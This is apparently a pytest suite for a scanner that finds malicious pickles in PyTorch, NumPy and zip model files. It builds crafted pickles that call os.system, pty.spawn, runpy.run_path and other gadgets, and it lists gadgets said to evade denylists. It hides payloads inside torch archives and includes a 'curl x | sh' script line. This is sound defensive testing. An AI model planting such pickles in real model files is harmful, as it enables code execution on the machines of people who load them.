"""The pickle-family detector: shared vectors, crafted gadgets denylists miss, containers."""

from __future__ import annotations

import csv
import io
import pickletools
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch

from dflash_guard.scan.pickle import scan
from dflash_guard.scan.pickle.scan import classify_global, read_stream, scan_pickle_file
from dflash_guard.severity import Severity
from tests.support.scan_builders import findings_at_least, gadget_pickle, inst_pickle

GADGETS = [
    ("importlib", "import_module"),
    ("code", "InteractiveInterpreter"),
    ("functools", "partial"),
    ("timeit", "timeit"),
    ("cProfile", "run"),
    ("pydoc", "pipepager"),
    ("numpy.testing._private.utils", "runstring"),
]


def _rules(findings):
    return {f.rule_id for f in findings}


def test_shared_vectors_match_expected_verdicts(shared_vectors: Path) -> None:
    root = shared_vectors / "picklescan"
    rows = list(csv.DictReader((root / "EXPECTED.tsv").open(), delimiter="\t"))
    assert len(rows) == 109
    wrong = []
    for row in rows:
        findings = scan_pickle_file(root / row["path"], row["path"])
        worst = max((f.severity for f in findings), default=None)
        verdict = row["verdict"]
        if verdict == "malicious":
            ok = worst is not None and worst >= Severity.high
        elif verdict == "benign":
            ok = worst is None or worst < Severity.medium
        elif verdict == "not-a-pickle":
            ok = bool(_rules(findings) & {"DG-NOT-PICKLE", "DG-PICKLE-INVALID"})
        else:
            ok = "DG-UNSCANNABLE" in _rules(findings)
        if not ok:
            wrong.append((row["path"], verdict, sorted(_rules(findings))))
    assert wrong == []


@pytest.mark.parametrize("module,name", GADGETS)
@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_gadgets_denylists_miss_are_critical_in_every_protocol(
    tmp_path: Path, module: str, name: str, protocol: int
) -> None:
    path = tmp_path / "gadget.pkl"
    path.write_bytes(gadget_pickle(module, name, protocol=protocol))
    pickletools.dis(path.read_bytes(), out=io.StringIO())  # the crafted bytes are a valid pickle
    findings = scan_pickle_file(path, "gadget.pkl")
    hits = [f for f in findings if f.rule_id == "DG-PICKLE-DANGEROUS-GLOBAL"]
    assert hits and hits[0].severity is Severity.critical
    assert f"{module}.{name}" in hits[0].message


def test_unknown_global_is_high_not_silent(tmp_path: Path) -> None:
    path = tmp_path / "x.pkl"
    path.write_bytes(gadget_pickle("some_vendor.helpers", "do_stuff", protocol=2))
    findings = scan_pickle_file(path, "x.pkl")
    assert [f.severity for f in findings if f.rule_id == "DG-PICKLE-GLOBAL"] == [Severity.high]


def test_inst_opcode_is_resolved(tmp_path: Path) -> None:
    path = tmp_path / "inst.pkl"
    path.write_bytes(inst_pickle("os", "system", "id"))
    findings = scan_pickle_file(path, "inst.pkl")
    assert any(
        f.rule_id == "DG-PICKLE-DANGEROUS-GLOBAL" and "os.system" in f.message for f in findings
    )


def test_build_on_an_allowlisted_global_is_flagged(tmp_path: Path) -> None:
    # GLOBAL collections.OrderedDict, (None, {"__reduce__": 1}) BUILD: rewrites the class itself
    data = b"\x80\x02ccollections\nOrderedDict\nN}\x8c\x03abcK\x01s\x86b."
    pickletools.dis(data, out=io.StringIO())
    path = tmp_path / "build.pkl"
    path.write_bytes(data)
    assert "DG-PICKLE-BUILD-ON-GLOBAL" in _rules(scan_pickle_file(path, "build.pkl"))


def test_stack_global_with_computed_name_is_unresolved() -> None:
    # STACK_GLOBAL on a module string and an int: the name is not a constant string
    data = b"\x80\x04\x8c\x02osK\x01\x93."
    result = read_stream(io.BytesIO(data))
    assert result.globals and result.globals[0].module is None


def test_extension_opcode_is_flagged(tmp_path: Path) -> None:
    path = tmp_path / "ext.pkl"
    path.write_bytes(b"\x80\x02\x82\x01)R.")  # EXT1 1, EMPTY_TUPLE, REDUCE
    assert "DG-PICKLE-UNRESOLVED-GLOBAL" in _rules(scan_pickle_file(path, "ext.pkl"))


def test_truncated_pickle_reports_prefix_and_invalidity(tmp_path: Path) -> None:
    path = tmp_path / "cut.pkl"
    path.write_bytes(gadget_pickle("os", "system", protocol=2)[:-3])
    rules = _rules(scan_pickle_file(path, "cut.pkl"))
    assert {"DG-PICKLE-DANGEROUS-GLOBAL", "DG-PICKLE-INVALID"} <= rules


def test_classify_global() -> None:
    assert classify_global("torch._utils", "_rebuild_tensor_v2") is None
    assert classify_global("collections", "OrderedDict") is None
    assert classify_global("builtins", "eval") is Severity.critical
    assert classify_global("subprocess", "Popen") is Severity.critical
    assert classify_global("collections", "deque") is Severity.high


def _state_dict() -> dict[str, torch.Tensor]:
    return {
        "layer.weight": torch.zeros(3, 4),
        "layer.bias": torch.ones(4),
        "emb.weight": torch.zeros(2, 2, dtype=torch.bfloat16),
        "fp8.weight": torch.zeros(2, dtype=torch.float8_e4m3fn),  # saved as UntypedStorage
        "mask": torch.zeros(3, dtype=torch.bool)[1:],
        "param": torch.nn.Parameter(torch.ones(2)),  # state_dict(keep_vars=True)
    }


def test_real_torch_checkpoints_are_only_a_low_note(tmp_path: Path) -> None:
    zipped, legacy = tmp_path / "new.bin", tmp_path / "legacy.bin"
    torch.save(_state_dict(), zipped)
    torch.save(_state_dict(), legacy, _use_new_zipfile_serialization=False)
    for path in (zipped, legacy):
        findings = scan_pickle_file(path, path.name)
        assert findings_at_least(findings, Severity.medium) == []
        assert "DG-PICKLE-PRESENT" in _rules(findings)


def test_malicious_data_pkl_inside_a_torch_zip(tmp_path: Path) -> None:
    clean = tmp_path / "clean.pt"
    torch.save(_state_dict(), clean)
    evil = tmp_path / "evil.pt"
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(evil, "w") as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("data.pkl"):
                data = gadget_pickle("runpy", "run_path", protocol=2)
            out.writestr(info, data)
    findings = scan_pickle_file(evil, "evil.pt")
    hit = [f for f in findings if f.rule_id == "DG-PICKLE-DANGEROUS-GLOBAL"]
    assert hit and hit[0].member.endswith("data.pkl")


def test_every_pickle_of_a_legacy_file_is_read(tmp_path: Path) -> None:
    """modelscan reads only the first pickle of a legacy torch file; the payload is in the 4th."""
    legacy = tmp_path / "legacy.bin"
    torch.save(_state_dict(), legacy, _use_new_zipfile_serialization=False)
    stream = io.BytesIO(legacy.read_bytes())
    for _ in range(3):
        read_stream(stream)
    start = stream.tell()
    read_stream(stream)
    rest = stream.read()
    evil = tmp_path / "evil.bin"
    evil.write_bytes(legacy.read_bytes()[:start] + gadget_pickle("pty", "spawn", protocol=2) + rest)
    findings = scan_pickle_file(evil, "evil.bin")
    assert any("pty.spawn" in f.message and f.severity is Severity.critical for f in findings)


def test_nested_zip_and_npz_members(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("payload.pkl", gadget_pickle("webbrowser", "open", protocol=3))
    outer = tmp_path / "outer.zip"
    with zipfile.ZipFile(outer, "w") as archive:
        archive.writestr("inner.zip", inner.getvalue())
    findings = scan_pickle_file(outer, "outer.zip")
    hit = [f for f in findings if "webbrowser.open" in f.message]
    assert hit and hit[0].member == "inner.zip:payload.pkl"


def test_zip_bomb_member_is_unscannable_not_read_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(scan, "MAX_MEMBER_BYTES", 1000)
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.pkl", gadget_pickle("os", "system", protocol=2) + b"\0" * 5000)
    findings = scan_pickle_file(bomb, "bomb.zip")
    assert [(f.rule_id, f.member) for f in findings if f.detector == "pickle"] == [
        ("DG-UNSCANNABLE", "data.pkl")
    ]
    assert "decompresses to over 1000 bytes" in findings[-1].message


def test_numpy_object_array_with_a_payload(tmp_path: Path) -> None:
    benign = tmp_path / "objects.npy"
    np.save(benign, np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    assert findings_at_least(scan_pickle_file(benign, "objects.npy"), Severity.medium) == []
    header_end = benign.read_bytes().index(b"\n") + 1
    evil = tmp_path / "evil.npy"
    evil.write_bytes(
        benign.read_bytes()[:header_end] + gadget_pickle("socket", "create_connection")
    )
    assert findings_at_least(scan_pickle_file(evil, "evil.npy"), Severity.critical)


def test_plain_numpy_array_has_no_pickle(tmp_path: Path) -> None:
    path = tmp_path / "ints.npy"
    np.save(path, np.arange(10))
    findings = scan_pickle_file(path, "ints.npy")
    assert "DG-PICKLE-PRESENT" not in _rules(findings)
    assert findings_at_least(findings, Severity.medium) == []


def test_pickle_detected_by_content_whatever_the_name(tmp_path: Path) -> None:
    from dflash_guard.scan import scan_paths

    (tmp_path / "weights.dat").write_bytes(gadget_pickle("os", "popen", protocol=2))
    (tmp_path / "model.safetensors").write_bytes(gadget_pickle("os", "system", protocol=4))
    report = scan_paths([tmp_path])
    flagged = {f.file for f in report.findings if f.rule_id == "DG-PICKLE-DANGEROUS-GLOBAL"}
    assert flagged == {"weights.dat", "model.safetensors"}
    assert sorted(report.pickle_files) == ["model.safetensors", "weights.dat"]


def test_7z_and_encrypted_members_are_unscannable(tmp_path: Path) -> None:
    path = tmp_path / "model.bin"
    path.write_bytes(b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64)
    assert "DG-UNSCANNABLE" in _rules(scan_pickle_file(path, "model.bin"))


def test_zip_tricks_from_the_vectors(shared_vectors: Path) -> None:
    root = shared_vectors / "picklescan"
    crc = _rules(scan_pickle_file(root / "data2/malicious1_crc.zip", "crc.zip"))
    assert {"DG-ZIP-CRC", "DG-PICKLE-DANGEROUS-GLOBAL"} <= crc  # content scanned despite the CRC
    flagged = _rules(scan_pickle_file(root / "data/malicious1_0x1.zip", "0x1.zip"))
    assert "DG-UNSCANNABLE" in flagged  # "encrypted" flag bit on a plain member


def test_executables_in_a_model_folder(tmp_path: Path) -> None:
    from dflash_guard.scan import scan_paths

    (tmp_path / "libkernel.so").write_bytes(b"\x7fELF" + b"\x00" * 60)
    (tmp_path / "setup_env").write_bytes(b"#!/bin/sh\ncurl x | sh\n")
    (tmp_path / "README.md").write_text("# model card\n")
    (tmp_path / "tokenizer.model").write_bytes(b"\x0a\x0b\x0c" * 20)
    flagged = {f.file for f in scan_paths([tmp_path]).findings if f.rule_id == "DG-EXECUTABLE"}
    assert flagged == {"libkernel.so", "setup_env"}
